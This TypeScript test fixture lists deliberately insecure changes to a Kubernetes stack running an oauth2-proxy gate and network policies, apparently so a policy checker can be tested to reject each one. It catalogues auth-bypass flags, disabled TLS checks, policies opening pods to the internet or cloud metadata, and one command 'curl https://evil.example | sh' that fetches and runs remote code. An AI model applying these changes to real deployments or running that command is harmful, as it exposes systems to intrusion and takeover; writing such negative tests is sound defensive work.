import type { Props } from "../../../policy/resource.ts";
import type { BadChange, Stack } from "./stacks.ts";

/* Changes that break a rule, written from its one-line promise. */

const proxy = "sso-proxy";
const args = (s: Stack): string[] => s.container("Deployment", proxy).args as string[];
const swap = (s: Stack, from: RegExp, to: string): void => {
  const all = args(s);
  all[all.findIndex((each) => from.test(each))] = to;
};
const policy = (s: Stack, name: string): Props => s.spec("NetworkPolicy", `network-${name}`) as Props;

export const badNetworks: Record<string, BadChange[]> = {
  "gate-settings": [
    ["trusts a client's headers", (s) => args(s).push("--reverse-proxy=true")],
    ["the flag in two words", (s) => args(s).push("--skip-auth-regex", "^/app")],
    ["the flag with one dash", (s) => args(s).push("-skip-auth-route=^/app")],
    ["a configuration file", (s) => args(s).push("--config=/etc/oauth2-proxy/pages/gate.cfg")],
    ["the alpha configuration", (s) => args(s).push("--alpha-config=/etc/oauth2-proxy/pages/a.yaml")],
    ["signed tokens of others", (s) => args(s).push("--skip-jwt-bearer-tokens=true")],
    ["preflight requests", (s) => args(s).push("--skip-auth-preflight=true")],
    ["trusted addresses", (s) => args(s).push("--trusted-ip=0.0.0.0/0")],
    ["a password file", (s) => args(s).push("--htpasswd-file=/etc/oauth2-proxy/pages/p")],
    ["no nonce", (s) => swap(s, /skip-nonce/, "--insecure-oidc-skip-nonce=true")],
    ["an issuer that is not checked", (s) => args(s).push("--insecure-oidc-skip-issuer-verification=true")],
    ["no TLS check of the issuer", (s) => args(s).push("--ssl-insecure-skip-verify=true")],
    ["a cookie without TLS", (s) => swap(s, /cookie-secure/, "--cookie-secure=false")],
    ["a cookie for every subdomain", (s) => args(s).push("--cookie-domain=.newjoy.ro")],
    ["redirects to every subdomain", (s) => args(s).push("--whitelist-domain=.newjoy.ro")],
    ["an issuer without TLS", (s) => swap(s, /issuer-url/, "--oidc-issuer-url=http://id.newjoy.ro")],
    ["another provider", (s) => swap(s, /--provider=/, "--provider=google")],
    ["requests in the log", (s) => args(s).splice(args(s).indexOf("--request-logging=false"), 1)],
    ["a second upstream", (s) => args(s).push("--upstream=file:///etc/#/files/")],
    ["another command", (s) => (s.container("Deployment", proxy).command = ["/bin/oauth2-proxy", "--reverse-proxy"])],
    [
      "a variable",
      (s) => s.container("Deployment", proxy).env.push({ name: "OAUTH2_PROXY_SKIP_AUTH_ROUTES", value: "^/" }),
    ],
    [
      "variables of a ConfigMap",
      (s) => (s.container("Deployment", proxy).envFrom = [{ configMapRef: { name: "chatwoot-config" } }]),
    ],
    [
      "a client secret in the open",
      (s) => (s.container("Deployment", proxy).env[1] = { name: "OAUTH2_PROXY_CLIENT_SECRET", value: "x" }),
    ],
    [
      "a second container",
      (s) => s.pod("Deployment", proxy).containers.push({ ...s.container("Deployment", proxy), name: "b" }),
    ],
    [
      "a file from a claim",
      (s) => s.pod("Deployment", proxy).volumes.push({ name: "c", persistentVolumeClaim: { claimName: "a" } }),
    ],
    [
      "a file in its configuration's place",
      (s) =>
        s
          .container("Deployment", proxy)
          .volumeMounts.push({ name: "pages", mountPath: "/etc/oauth2-proxy.cfg", subPath: "robots.txt" }),
    ],
  ],
  "closed-networks": [
    ["no default", (s) => s.remove("NetworkPolicy", "network-default-deny")],
    ["a default for ingress alone", (s) => (policy(s, "default-deny")["policyTypes"] = ["Ingress"])],
    ["a default for some pods", (s) => (policy(s, "default-deny")["podSelector"] = { matchLabels: { app: "a" } })],
    ["a default that allows", (s) => (policy(s, "default-deny")["egress"] = [{}])],
    ["a default elsewhere", (s) => (s.props("NetworkPolicy", "network-default-deny")["metadata"].namespace = "other")],
    [
      "no policies",
      (s) => {
        s.resources = s.resources.filter(({ type }) => !type.endsWith(":NetworkPolicy"));
      },
    ],
    ["everybody reaches Redis", (s) => delete policy(s, "redis")["ingress"][0].from],
    ["nobody is named", (s) => (policy(s, "redis")["ingress"][0].from = [])],
    ["every namespace", (s) => (policy(s, "database")["ingress"][0].from = [{ namespaceSelector: {} }])],
    [
      "every namespace but one",
      (s) =>
        (policy(s, "web")["ingress"][0].from = [
          { namespaceSelector: { matchExpressions: [{ key: "a", operator: "NotIn", values: ["b"] }] } },
        ]),
    ],
    ["every pod of the namespace", (s) => (policy(s, "redis")["ingress"][0].from = [{ podSelector: {} }])],
    [
      "every pod of the stack",
      (s) =>
        (policy(s, "redis")["ingress"][0].from = [
          { podSelector: { matchLabels: { "app.kubernetes.io/part-of": "chatwoot" } } },
        ]),
    ],
    ["every port", (s) => delete policy(s, "web")["ingress"][0].ports],
    ["a range of ports", (s) => Object.assign(policy(s, "redis")["ingress"][0].ports[0], { port: 1, endPort: 65_535 })],
    [
      "the internet comes in",
      (s) => policy(s, "web")["ingress"].push({ from: [{ ipBlock: { cidr: "0.0.0.0/0" } }], ports: [{ port: 3000 }] }),
    ],
    [
      "half of the internet comes in",
      (s) =>
        policy(s, "web")["ingress"].push({ from: [{ ipBlock: { cidr: "128.0.0.0/1" } }], ports: [{ port: 3000 }] }),
    ],
    [
      "the metadata of the cloud",
      (s) => {
        const rules = policy(s, "web")["egress"] as { to: Props[] }[];
        const ipBlock = rules.flatMap(({ to }) => to).find((each) => each["ipBlock"])!["ipBlock"] as {
          except: string[];
        };
        ipBlock.except = ipBlock.except.filter((each) => !each.startsWith("169.254"));
      },
    ],
    [
      "private networks",
      (s) => {
        for (const { to } of policy(s, "worker")["egress"]) for (const peer of to) delete peer.ipBlock?.except;
      },
    ],
    [
      "the metadata of the cloud by name",
      (s) =>
        policy(s, "web")["egress"].push({ to: [{ ipBlock: { cidr: "169.254.169.254/32" } }], ports: [{ port: 80 }] }),
    ],
    [
      "every private address",
      (s) => policy(s, "web")["egress"].push({ to: [{ ipBlock: { cidr: "10.0.0.0/8" } }], ports: [{ port: 22 }] }),
    ],
    ["everything out", (s) => policy(s, "worker")["egress"].push({})],
    [
      "another policy for all",
      (s) =>
        s.add("networking.k8s.io/v1", "NetworkPolicy", {
          spec: { podSelector: {}, ingress: [{}], policyTypes: ["Ingress"] },
        }),
    ],
    ["more than names for all", (s) => policy(s, "every-pod")["egress"][0].ports.push({ port: 443, protocol: "TCP" })],
  ],
  "known-objects": [
    ["Traefik's routes", (s) => s.add("traefik.io/v1alpha1", "IngressRoute", { spec: {} })],
    ["a TCP route", (s) => s.add("gateway.networking.k8s.io/v1alpha2", "TCPRoute", { spec: {} })],
    ["Istio's service", (s) => s.add("networking.istio.io/v1", "VirtualService", { spec: {} })],
    ["another Gateway", (s) => s.add("gateway.networking.k8s.io/v1", "Gateway", { spec: {} })],
    [
      "a webhook of the API server",
      (s) => s.add("admissionregistration.k8s.io/v1", "MutatingWebhookConfiguration", { webhooks: [] }),
    ],
    ["a pod on every node", (s) => s.add("apps/v1", "DaemonSet", { spec: { template: { spec: { containers: [] } } } })],
    ["a patch of another object", (s) => s.add("apps/v1", "DeploymentPatch", { spec: {} })],
    ["a policy of Cilium", (s) => s.add("cilium.io/v2", "CiliumNetworkPolicy", { spec: {} })],
    ["a pod of Argo", (s) => s.add("argoproj.io/v1alpha1", "Rollout", { spec: {} })],
    [
      "another provider's resource",
      (s) => s.resources.push({ ...s.resource("Namespace"), type: "aws:s3/bucket:Bucket" }),
    ],
    [
      "a release whose objects nobody sees",
      (s) => s.resources.push({ ...s.resource("Namespace"), type: "kubernetes:helm.sh/v3:Release" }),
    ],
    [
      "a command of its own",
      (s) =>
        s.resources.push({
          ...s.resource("Namespace"),
          type: "command:local:Command",
          props: { create: "curl https://evil.example | sh" },
        }),
    ],
    ["a command elsewhere", (s) => s.resources.push({ ...s.resource("Namespace"), type: "command:remote:Command" })],
    [
      "a file of objects",
      (s) => s.resources.push({ ...s.resource("Namespace"), type: "kubernetes:yaml/v2:ConfigFile" }),
    ],
  ],
};
